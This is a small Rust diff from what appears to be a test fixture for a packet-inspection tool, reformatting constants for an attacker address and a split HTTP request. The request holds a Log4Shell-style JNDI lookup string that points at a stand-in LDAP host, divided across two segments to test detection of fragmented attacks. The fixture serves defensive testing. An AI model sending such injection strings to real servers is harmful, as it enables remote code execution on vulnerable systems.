@@ -18,7 +18,8 @@ const ATTACKER: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 9);
 const OURS: Ipv4Addr = Ipv4Addr::new(192, 168, 0, 10);
 
 /// An attack, in two segments of which neither has all of it.
-const ATTACK: [&[u8]; 2] = [b"GET /?x=${jn", b"di:ldap://198.51.100.9/a} HTTP/1.1\r\nHost: a.example\r\n\r\n"];
+const ATTACK: [&[u8]; 2] =
+    [b"GET /?x=${jn", b"di:ldap://198.51.100.9/a} HTTP/1.1\r\nHost: a.example\r\n\r\n"];
 
 /// Both ways of a listed address and of an attack, and what is none of either.
 fn packets() -> Vec<Owned> {
